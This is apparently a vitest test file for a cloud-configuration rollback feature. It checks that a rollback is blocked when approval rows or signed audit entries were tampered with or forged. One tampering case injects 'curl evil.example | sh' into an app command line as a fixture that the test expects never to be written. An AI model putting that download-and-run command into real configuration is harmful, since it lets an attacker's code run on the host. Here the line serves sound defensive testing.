/** A rollback whose rows were changed by somebody who can write tables but cannot sign: nothing is written. */
import { describe, expect, test } from 'vitest';
import type { Approval } from '../../../src/domain/approvals/approval.ts';
import { type AuditEntry, parseAuditKeys } from '../../../src/domain/audit/audit.ts';
import { seal } from '../../../src/domain/audit/seal.ts';
import { SHOP } from '../../fakes/azure/resources.ts';
import { approvals, rollbackOf } from '../../fakes/scenarios/scenarios.ts';
import type { Scene } from '../../fakes/scenarios/scene.ts';
import { fixed, TLS, tlsNow } from './rolling-back.ts';

const other = parseAuditKeys(`k1:${Buffer.alloc(32, 8).toString('base64')}`).signing;

/** A requested rollback, with its row and the entry of its fix as they were changed in the tables. */
async function tampered(
  row: (asked: Approval) => object,
  entry: (fix: AuditEntry) => object = () => ({}),
): Promise<Scene> {
  const made = await fixed();
  const { deps, host } = made;
  const asked = await host.rollBack(rollbackOf(deps));
  const { entries, approvals: rows } = deps.stored;
  rows.set(asked.id, { value: { ...asked, ...row(asked) }, version: rows.get(asked.id)?.version ?? 1 });
  const at = entries.findIndex(({ id }) => id === asked.auditIds[0]);
  const fix = entries[at];
  if (!fix) throw new Error('the rollback names its fix');
  entries[at] = { ...fix, ...entry(fix) };
  await host.settle();
  return made;
}

const change = (path: string, from: string | null, to: string) => [{ document: 'config/web' as const, path, from, to }];
const forged = (fix: AuditEntry) => {
  const { hash: _h, signature: _s, keyId: _k, ...content } = fix;
  return seal({ ...content, changes: change(TLS, '1.1', '1.2') }, other);
};

describe('a rollback is written only when it is the inverse of a signed fix', () => {
  test('an unchanged row is written', async () => {
    const { deps } = await tampered(() => ({}));
    expect([tlsNow(deps), approvals(deps)[0]?.status]).toEqual(['1.0', 'applied']);
  });

  test.each<[string, Parameters<typeof tampered>[0], Parameters<typeof tampered>[1]?]>([
    ['another value', () => ({ changes: change(TLS, '1.2', '1.1') })],
    ['another path', () => ({ changes: change('/properties/appCommandLine', null, 'curl evil.example | sh') })],
    ['an unknown fix', () => ({ auditIds: [] })],
    ['an intent', (asked) => ({ auditIds: [...asked.auditIds].reverse() })],
    ['another rule', (asked) => ({ rule: { ...asked.rule, id: 'webapp-https-only' } })],
    ['an edited entry', () => ({ changes: change(TLS, '1.2', '1.1') }), () => ({ changes: change(TLS, '1.1', '1.2') })],
    ['an entry signed with another key', () => ({ changes: change(TLS, '1.2', '1.1') }), forged],
  ])('with %s nothing is written, and the approval and the log line say why', async (_, row, entry) => {
    const { deps } = await tampered(row, entry);
    expect(tlsNow(deps)).toBe('1.2');
    expect(deps.arm.valueOf(SHOP, 'config/web', '/properties/appCommandLine')).toBeNull();
    expect(approvals(deps)).toMatchObject([
      { status: 'blocked', reasons: [{ text: expect.stringMatching(/^Nothing is written: /) }] },
    ]);
    expect(deps.stored.entries.filter(({ kind }) => kind.startsWith('rollback.'))).toEqual([]);
  });
});
